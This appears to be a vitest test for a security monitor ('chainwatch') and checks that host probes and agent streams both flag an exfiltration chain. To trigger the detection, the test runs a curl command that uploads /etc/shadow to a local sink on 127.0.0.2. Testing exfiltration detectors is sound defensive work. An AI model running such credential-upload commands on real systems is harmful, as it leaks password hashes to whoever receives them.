import { spawn } from 'node:child_process';
import { mkdirSync, rmdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { cgroupV2Root } from '../source/cgroups.js';
import { TestServe, testAgent, testPki, traceEvents, until } from '../testing/agent-link.js';
import { tcpSink } from '../testing/live-harness.js';

/**
 * chainwatch serve runs the host's own probes and agent streams at once:
 * one pipeline, one set of sinks, findings from both, each attributed to
 * its own task (the host's cgroup, the agent's certificate).
 */
const pki = testPki(['agent-x']);
const cgRoot = cgroupV2Root();
const hostCg = `/chainwatch-test-serve-host-${process.pid}`;
let serve: TestServe;

beforeAll(async () => {
  mkdirSync(join(cgRoot, hostCg), { recursive: true });
  serve = new TestServe(pki, undefined, { watchHost: { mode: 'cgroup', path: hostCg } });
  await serve.start();
}, 120_000);

afterAll(async () => {
  await serve?.close();
  try {
    rmdirSync(join(cgRoot, hostCg));
  } catch {
    // still populated
  }
}, 60_000);

it('serve --watch-host: a chain on the host and one streamed by an agent, both found by the one pipeline', async () => {
  const sink = await tcpSink();
  try {
    const procs = join(cgRoot, hostCg, 'cgroup.procs');
    const c = spawn('bash', ['-c', `echo $$ > ${procs} && exec curl -s -m 2 -T /etc/shadow http://127.0.0.2:${sink.port}/ -o /dev/null`], { stdio: 'ignore' });
    await new Promise((r) => c.once('exit', r));
    const recorded = await traceEvents('replays/curl-put-shadow.trace.jsonl.gz');
    const agent = testAgent(pki, 'agent-x', serve.port, recorded.header);
    agent.start();
    for (const ev of recorded.events) agent.push(ev);
    await agent.close(10_000);
    const hostTask = hostCg.slice(1);
    await until(
      () => ['agent-x', hostTask].every((t) => serve.findings.some((f) => f.rule === 'exfil.read-then-transmit' && f.task === t)),
      15_000,
      'findings from the host probes and from the agent',
    );
    const onHost = serve.findings.find((f) => f.rule === 'exfil.read-then-transmit' && f.task === hostTask)!;
    expect(onHost.source.path).toBe('/etc/shadow');
    expect(onHost.sink).toMatchObject({ address: '127.0.0.2', port: sink.port });
  } finally {
    await sink.close();
  }
}, 60_000);
